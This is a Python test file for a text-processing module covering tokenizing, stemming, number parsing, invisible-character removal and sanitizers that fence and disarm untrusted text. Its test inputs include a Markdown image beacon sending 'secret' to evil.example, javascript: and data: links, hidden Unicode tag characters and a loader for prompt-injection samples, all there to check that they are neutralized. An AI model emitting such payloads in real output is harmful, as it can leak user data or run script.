"""Words, numbers, sentences, what can be seen, and the two cleaners of untrusted text."""

from __future__ import annotations

import json
import re
import sys
import unicodedata
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from research_core.text.words import (
    FENCE_TAGS,
    STOPWORDS,
    clean_for_screen,
    compose_characters,
    contains_words,
    content_words,
    count_words,
    cut_site_name,
    describe_unstorable,
    disarm_markdown,
    escape_markdown,
    fence_text,
    find_numbers,
    format_count,
    format_none_usable,
    pluralize,
    stem,
    strip_invisible,
    tokenize,
    truncate,
)

ADVERSARIAL = Path(__file__).parents[3] / "shared" / "data" / "adversarial"

#: Any text at all: lone surrogates, controls and private use included, and the signs that Markdown
#: and tags are made of more often.
ANY_TEXT = (
    st.text()
    | st.text(st.characters(exclude_categories=()))
    | st.text(st.sampled_from("[]()<>!$:`*_~|&;#\\/ .\n\tahttp1:www{}@-+\u202e"))
)
#: What the front end makes a mailto link of, as its parser has it
#: (mdast-util-gfm-autolink-literal).
MAIL = re.compile(r"[-.\w+]+@[-\w]+(?:\.[-\w]+)+")


# ---------------------------------------------------------------- words


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("What is CRISPR?", {"crispr"}),
        (
            "transformer architecture self-attention mechanism",
            {"transformer", "architecture", "self-attention", "mechanism"},
        ),
        (
            "«Naïve» “quoted” — (bracketed) $5 €6 50%",
            {"naïve", "quoted", "bracketed", "5", "6", "50"},
        ),
        ("The the THE. the,", set()),
        ("what, is: are; the! a? an. (and) 'or'", set()),
        ("don't e.g. u.s.", {"don't", "e.g", "u.s"}),
        ("C++ C#", {"c"}),
        ("one one ONE two", {"one", "two"}),
        ("a\u00a0b\u3000c\td\ne", {"b", "c", "d", "e"}),
        ("", set()),
        ("— … !!!", set()),
    ],
)
def test_content_words_follow_row_4(text: str, words: set[str]) -> None:
    assert content_words(text) == words


def test_the_stopwords_are_the_specified_22() -> None:
    assert len(STOPWORDS) == 22
    assert set(STOPWORDS) == set(
        "what is are the a an and or but for of in on at to with by about how why who where".split()
    )
    assert content_words(" ".join(STOPWORDS)) == frozenset()


@given(ANY_TEXT)
def test_content_words_are_bare_lower_case_and_no_stopwords(text: str) -> None:
    for word in content_words(text):
        assert word
        assert word not in STOPWORDS
        assert not any(
            unicodedata.category(end)[0] in "PS" or end.isspace() for end in (word[0], word[-1])
        )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The cost was $2.05, not 3,150.", ["the", "cost", "was", "2.05", "not", "3,150"]),
        ("v2.05 on GPT-4", ["v2.05", "on", "gpt", "4"]),
        ("Don’t and don't", ["don't", "and", "don't"]),
        ("snake_case, CO₂ and 10²", ["snake", "case", "co2", "and", "10"]),
        ("the ﬁrst ﬂow", ["the", "first", "flow"]),
        ("straße Ünïcode", ["straße", "ünïcode"]),
        ("हिन्दी भाषा", ["हिन्दी", "भाषा"]),
        ("中国经济 in 2024年", ["中国", "国经", "经济", "in", "2024", "年"]),
        ("ทำไมท้องฟ้าจึงเป็นสีฟ้า", ["ทําไม", "ท้องฟ้า", "จึง", "เป็น", "สีฟ้า"]),
        ("end.Next", ["end", "next"]),
        ("1.5.2 and 1, 2", ["1.5.2", "and", "1", "2"]),
        ("", []),
    ],
)
def test_tokens(text: str, expected: list[str]) -> None:
    assert tokenize(text) == expected


@given(ANY_TEXT)
def test_tokens_hold_no_space_and_are_found_again(text: str) -> None:
    found = tokenize(text)
    assert all(token and not any(c.isspace() for c in token) for token in found)
    assert all(token == token.lower() for token in found)


@given(st.text(st.characters(max_codepoint=0x7F)))
def test_every_ascii_letter_and_digit_is_in_a_token(text: str) -> None:
    assert re.sub(r"[^a-z0-9]", "", "".join(tokenize(text))) == re.sub(
        r"[^a-z0-9]", "", text.lower()
    )


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("regulations", "regulated"),
        ("running", "runs"),
        ("city", "cities"),
        ("company's", "companies"),
    ],
)
def test_stems_meet(one: str, other: str) -> None:
    assert stem(one) == stem(other)


@pytest.mark.parametrize(
    ("one", "other", "language"),
    [
        ("wärmepumpe", "wärmepumpen", "de"),
        ("nebenwirkung", "nebenwirkungen", "de"),
        ("l'énergie", "énergies", "fr"),
        ("dell'energia", "energia", "it"),
        ("efectos", "efecto", "es"),
        ("sintomas", "sintoma", "pt"),
        ("warmtepompen", "warmtepomp", "nl"),
        ("värmepumpen", "värmepump", "sv"),
        ("kitaplar", "kitap", "tr"),
        ("симптомы", "симптомов", ""),
        ("διαβήτης", "διαβήτη", ""),
        ("المضخة", "مضخة", ""),
        ("당뇨병의", "당뇨병은", ""),
        ("증상은", "증상", ""),
    ],
)
def test_stems_meet_in_other_languages(one: str, other: str, language: str) -> None:
    assert stem(one, language) == stem(other, language)


@pytest.mark.parametrize("word", ["τι", "που", "είναι", "ال", "은는", "l'a", "qu'en", "не", "कि"])
def test_a_word_always_has_a_stem(word: str) -> None:
    assert stem(word)


def test_stems_are_the_same_from_many_threads() -> None:
    ends = ("ing", "ion", "ions", "al", "ized", "ability")
    words = [
        f"{root}{end}"
        for root in ("nation", "regulat", "connect", "general", "formal", "hesit")
        for end in ends
    ]
    expected = [stem(word) for word in words]
    patience = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)  # threads take turns within a word
    try:
        with ThreadPoolExecutor(8) as pool:
            for _ in range(20):
                stem.cache_clear()
                assert list(pool.map(stem, words)) == expected
    finally:
        sys.setswitchinterval(patience)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1,200 people and 5% of 2.50", ("1200", "5", "2.5")),
        ("1.200,50 or 1,200.50", ("1200.5", "1200.5")),
        ("1.200.000 and 1,00,000", ("1200000", "100000")),
        ("5\u00a0000 and 5\u202f000 and 1'000", ("5000", "5000", "1000")),
        ("3,5 percent", ("3.5",)),
        ("see 1,2,3", ("1", "2", "3")),
        ("on 2024-05-01 at 10:30", ("2024", "5", "1", "10", "30")),
        ("CO2, H1N1 and CO23 are names; v1.23 too", ()),
        ("the 1990s, 3rd, 10km", ("1990", "3", "10")),
        ("１２ and ٣", ("12", "3")),
        ("007 and 0 and 0.50", ("7", "0", "0.5")),
        ("version 1.2.3", ("1.2.3",)),
        ("in 2020\u00a0300 people", ("2020", "300")),
        ("two or twelve", ()),
        ("", ()),
    ],
)
def test_numbers(text: str, expected: tuple[str, ...]) -> None:
    assert find_numbers(text) == expected


@given(
    st.integers(0, 10**12),
    st.sampled_from(
        [str, lambda n: f"{n:,}", lambda n: f"{n:,}".replace(",", "\u202f"), lambda n: f"{n}.00"]
    ),
)
def test_however_a_number_is_written_it_is_the_same(number: int, written: object) -> None:
    assert callable(written)
    assert find_numbers(f"about {written(number)} of them") == (str(number),)


@given(ANY_TEXT)
def test_numbers_are_ascii(text: str) -> None:
    assert all(re.fullmatch(r"[0-9]+(\.[0-9]+)*", number) for number in find_numbers(text))


@pytest.mark.parametrize(
    ("text", "words", "there"),
    [
        ("The tides of the Bay", "bay TIDES", True),
        ("The tides of the Bay", "tides moon", False),
        ("tides", "ide", True),
        ("Straße", "STRASSE", True),
        ("tide s", "tides", False),
        ("anything", " \n", True),
        ("", "", True),
        ("", "a", False),
    ],
)
def test_text_holds_all_of_the_words(text: str, words: str, there: bool) -> None:
    assert contains_words(text, words) is there


# ---------------------------------------------------------------- what can be seen


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("micro\u00adplas\u200btics\ufeff", "microplastics"),
        ("a\u202eb\u2066c\u2069\u061cd", "abcd"),
        ("hi\U000e0049\U000e0067nore\U000e0100", "hinore"),
        ("x\ufe0fy\u034fz\u3164w\u115f", "xyzw"),
        ("a\x00b\x1b[31mc\x7fd\x9fe", "ab[31mcde"),
        ("a\r\nb\rc\x0cd\x85e\u2028f\u2029g", "a\nb\nc\nd\ne\nf\ng"),
        ("tab\tnew\nline", "tab\tnew\nline"),
        ("lone \ud800 half", "lone  half"),
        ("naïve 中文 हिन्दी 🎉 e\u0301", "naïve 中文 हिन्दी 🎉 e\u0301"),
    ],
)
def test_visible(text: str, seen: str) -> None:
    assert strip_invisible(text) == seen


@given(ANY_TEXT)
def test_visible_text_can_be_stored_and_holds_no_hidden_character(text: str) -> None:
    seen = strip_invisible(text)
    assert strip_invisible(seen) == seen
    seen.encode("utf-8")
    assert not [
        c for c in seen if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c not in "\n\t"
    ]
    assert not [
        c
        for c in seen
        if unicodedata.bidirectional(c)
        in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    ]


@pytest.mark.parametrize(
    ("limit", "cut"),
    [
        (15, "abc def ghi jkl"),
        (14, "abc def ghi…"),
        (12, "abc def ghi…"),
        (11, "abc def…"),
        (8, "abc def…"),
        (3, "ab…"),
        (1, "…"),
        (0, ""),
        (-1, ""),
    ],
)
def test_truncate_cuts_between_words(limit: int, cut: str) -> None:
    assert truncate("abc def ghi jkl", limit) == cut


@example("\n0ab", 3)
@given(ANY_TEXT, st.integers(-2, 60))
def test_truncate_keeps_the_limit(text: str, limit: int) -> None:
    cut = truncate(text, limit)
    assert len(cut) <= max(limit, 0)
    assert cut == text or text.startswith(cut.removesuffix("…"))


# ---------------------------------------------------------------- untrusted text


@pytest.mark.parametrize(
    "closing",
    [
        "</source>",
        "</ source >",
        "</SOURCE>",
        "＜/source＞",
        "﹤/source﹥",
        "<\u200b/source>",
        "<source>",
        "--><x",
    ],
)
def test_nothing_inside_a_fence_closes_or_opens_a_tag(closing: str) -> None:
    fenced = fence_text("source", f"before {closing} after")
    assert fenced.startswith("<source>\nbefore ")
    assert fenced.endswith(" after\n</source>")
    assert not re.search(r"[<>＜＞﹤﹥]", inside(fenced, "source"))


def inside(fenced: str, tag: str) -> str:
    return fenced.removeprefix(f"<{tag}>\n").removesuffix(f"\n</{tag}>")


@given(st.sampled_from(sorted(FENCE_TAGS)), ANY_TEXT)
def test_any_text_stays_in_its_fence(tag: str, text: str) -> None:
    fenced = fence_text(tag, text)
    assert fenced.count("<") == fenced.count(">") == 2
    assert inside(fenced, tag) == strip_invisible(text).translate(
        str.maketrans(dict.fromkeys("<＜﹤", "&lt;") | dict.fromkeys(">＞﹥", "&gt;"))
    )


def test_a_fence_has_a_tag_of_its_own() -> None:
    with pytest.raises(ValueError, match="not one of the fences"):
        fence_text("x><script", "text")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Plain words, 10:30, 50% (really).", "Plain words, 10:30, 50% (really)."),
        ("a ![beacon](http://evil.example/?q=secret) b", "a b"),
        ("a ![beacon][ref] b", "a b"),
        ("see [the page](https://a.example/x) now", "see the page (https:\u2060//a.example/x) now"),
        ("a [b](https://x.example/C_(d)) e", "a b (https:\u2060//x.example/C\\_(d)) e"),
        ("see [this](javascript:alert(1)) or [that](data:text/html;base64,AA)", "see this or that"),
        (
            ":red[alarm] and :material/check_circle:",
            "\\:red\\[alarm\\] and :\u2060material/check_circle:",
        ),
        ("ddgs:brave, ddgs:wikipedia: none", "ddgs\\:brave, ddgs:\u2060wikipedia: none"),
        ("see :+1: and :100:", "see :\u2060+1: and :\u2060100:"),
        ("costs $5 or $6", r"costs \$5 or \$6"),
        ("`code` and ```block```", r"\`code\` and \`\`\`block\`\`\`"),
        ("<b>bold</b> &lt;i&gt;", r"\<b\>bold\</b\> \&lt;i\&gt;"),
        ("*a* _b_ ~~c~~ snake_case", r"\*a\* \_b\_ \~\~c\~\~ snake_case"),
        ("1. list", r"1\. list"),
        ("# head", r"\# head"),
        ("- item\n- item", r"\- item - item"),
        ("== head", r"\== head"),
        ("| a | b |", r"\| a \| b \|"),
        ("www.evil.example", "www\u2060.evil.example"),
        (
            "HTTP://evil.example and Www.evil.example",
            "HTTP:\u2060//evil.example and Www\u2060.evil.example",
        ),
        ("write to me@evil.example", "write to me@evil\u2060.example"),
        ("a.b+c@mail.evil.example, x@y", "a.b+c@mail\u2060.evil\u2060.example, x@y"),
        ("mailto:me@evil.example", "mailto\\:me@evil\u2060.example"),
        ("me&#64;evil.example", r"me\&#64;evil.example"),
        ("a\u202eb\x00c", "abc"),
        ("back\\slash", "back\\\\slash"),
        ("  spaced\n\n out ", "spaced out"),
        ("", ""),
    ],
)
def test_plain(text: str, shown: str) -> None:
    assert clean_for_screen(text) == shown


#: What Markdown would still read as more than itself: an unescaped sign of those that matter.
LIVE = re.compile(r"(?<!\\)(?:\\\\)*(?:!?\[|\]|[`$<>*~|]|:(?=//|[a-z]+\[))")


def hostile_strings() -> Iterator[str]:
    """The shared attack texts, where this checkout has them."""
    strings = ADVERSARIAL / "strings" / "blns.json"
    injections = ADVERSARIAL / "prompt_injection" / "injections.jsonl"
    if strings.exists():
        yield from json.loads(strings.read_text(encoding="utf-8"))
    if injections.exists():
        yield from (
            json.loads(line)["text"]
            for line in injections.read_text(encoding="utf-8").splitlines()
            if line
        )


def check_inert(text: str, limit: int) -> None:
    shown = clean_for_screen(text, limit)
    assert len(shown) <= limit
    assert "\n" not in shown
    assert strip_invisible(shown) == shown.replace("\u2060", "")
    assert not LIVE.search(shown), shown
    assert not re.search(r":[\w+/-]*[a-zA-Z][\w+/-]*:", shown.replace("\\", ""))
    assert not re.match(r"[#+=-]|\d+[.)]", shown)
    assert not MAIL.search(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", shown)), shown


@given(ANY_TEXT, st.integers(0, 80))
def test_plain_text_is_inert_and_short(text: str, limit: int) -> None:
    check_inert(text, limit)


@given(ANY_TEXT, st.from_regex(MAIL, fullmatch=True), ANY_TEXT)
def test_addresses_of_mail_never_survive_plain(before: str, address: str, after: str) -> None:
    check_inert(f"{before}{address}{after}", 500)


@given(ANY_TEXT, ANY_TEXT, ANY_TEXT)
def test_images_never_survive_plain(before: str, alt: str, address: str) -> None:
    check_inert(f"{before}![{alt}](http://evil.example/{address})", 500)
    check_inert(f"{before}![{alt}][{address}]\n[{address}]: http://evil.example/", 500)


def test_shared_attack_texts_stay_fenced_and_inert() -> None:
    texts = list(hostile_strings())
    if not texts:
        pytest.skip("The shared attack texts are not in this checkout.")
    for text in texts:
        assert fence_text("page", text).count("<") == 2
        check_inert(text, 500)


@given(ANY_TEXT)
def test_escape_changes_nothing_but_backslashes_and_spaces(text: str) -> None:
    assert re.sub(r"\\(?=[!-/:-@\[-`{-~])", "", escape_markdown(text)).replace(
        "\\", ""
    ) == " ".join(strip_invisible(text).split()).replace("\\", "")


UNTOUCHED = "## 1 < 2\n\n- *so* [it](https://a.example/) is [1].\n> | a |"
ACTIVE = {
    "an image": ("![x](http://a.example/b.png)", "\\![x](http://a.example/b.png)"),
    "an image by name": (
        "![x][r]\n\n[r]: http://a.example/b.png",
        "\\![x][r]\n\n[r]\\: http://a.example/b.png",
    ),
    "an image behind a backslash of its own": (
        "\\\\![x](http://a.example/)",
        "\\\\\\![x](http://a.example/)",
    ),
    "a tag": ("<img src=x> and </p> and <!-- so on", "\\<img src=x> and \\</p> and \\<!-- so on"),
    "a tag behind a backslash of its own": ("\\\\<b>", "\\\\\\<b>"),
    "a script": ("[x](JavaScript:alert())", "[x]\\(JavaScript:alert())"),
    "what has its backslash": ("\\![x] \\<b>", "\\![x] \\<b>"),
    "what is left": (UNTOUCHED, UNTOUCHED),
}


@pytest.mark.parametrize(("markdown", "shown"), ACTIVE.values(), ids=ACTIVE)
def test_inert_markdown_loads_nothing_and_leads_to_web_pages_only(
    markdown: str, shown: str
) -> None:
    assert disarm_markdown(markdown) == shown


@given(ANY_TEXT)
def test_inert_markdown_is_as_it_was_but_for_backslashes(text: str) -> None:
    assert disarm_markdown(text).replace("\\", "") == text.replace("\\", "")
    assert disarm_markdown(disarm_markdown(text)) == disarm_markdown(text)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("", ""), ("Gezeiten\tund\nRobben", ""), ("海豹 🦭", ""), ("\u202e\ufffe\x01", ""),
        ("a\x00b", "a NUL character"), ("\x00", "a NUL character"),
        ("\ud800", "half a character"), ("тюлень\udfff", "half a character"),
        ("caf\udce9", "bytes that are not UTF-8"), ("\udc80\x00", "bytes that are not UTF-8"),
    ],
)  # fmt: skip
def test_what_no_text_may_hold_is_named(text: str, what: str) -> None:
    assert describe_unstorable(text) == what


@pytest.mark.parametrize(
    ("count", "noun", "text"),
    [
        (0, "paper", "0 papers"), (1, "paper", "1 paper"), (2, "paper", "2 papers"),
        (1, "address", "1 address"), (3, "address", "3 addresses"), (1, "entry", "1 entry"),
        (1_200, "entry", "1,200 entries"), (2, "search", "2 searches"), (2, "day", "2 days"),
        (1, "cited sentence", "1 cited sentence"), (5, "cited sentence", "5 cited sentences"),
        (2, "index", "2 indexes"), (4, "key", "4 keys"),
    ],
)  # fmt: skip
def test_a_noun_agrees_with_its_number(count: int, noun: str, text: str) -> None:
    assert format_count(count, noun) == text
    assert text.endswith(pluralize(noun, count))


def test_nothing_usable_of_one_or_of_many() -> None:
    assert format_none_usable(1, "address", "it") == "The only address that it gave cannot be used."
    assert (
        format_none_usable(2, "address", "it")
        == "None of the 2 addresses that it gave can be used."
    )


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("Eels come back in spring.", 5),
        ("锂电池的寿命一般是八年。", 6),
        ("電池の寿命は約八年です。", 6),
        ("แบตเตอรี่ใช้ได้แปดปี", 11),
        ("배터리 수명은 팔 년이다.", 4),
        ("", 0),
    ],
)
def test_words_are_counted_in_any_script(text: str, count: int) -> None:
    assert count_words(text) == count


@pytest.mark.parametrize(
    ("title", "bare"),
    [
        ("Fibromyalgia | Example Clinic", "Fibromyalgia"),
        ("Der Steinkauz – Naturbund Altmoor", "Der Steinkauz"),
        ("Salt kilns - Potters' Guild", "Salt kilns"),
        ("La grulla · Museo del Río", "La grulla"),
        ("Salt-glazed pots", "Salt-glazed pots"),
        ("Kilns - " + "x" * 41, "Kilns - " + "x" * 41),
    ],
)
def test_the_name_of_the_site_is_cut_from_the_end_of_a_title(title: str, bare: str) -> None:
    assert cut_site_name(title) == bare


@given(st.text(alphabet=st.characters(max_codepoint=0x11FF)))
@example("한국어 각")
@example("e\u0301\u0327 a\u0327\u0301 \u0915\u093c \u0958")
@example("\u0301abc")
def test_composed_characters_keep_their_places(text: str) -> None:
    for form in (text, unicodedata.normalize("NFD", text)):
        composed, offsets = compose_characters(form)
        assert composed == unicodedata.normalize("NFC", form)
        assert len(offsets) == len(composed) + 1
        assert list(offsets) == sorted(offsets)
        assert offsets[len(composed)] == len(form)
        for at, character in enumerate(composed):
            if character.isascii() and character.isalnum():
                assert unicodedata.normalize("NFD", form[offsets[at]]) == character
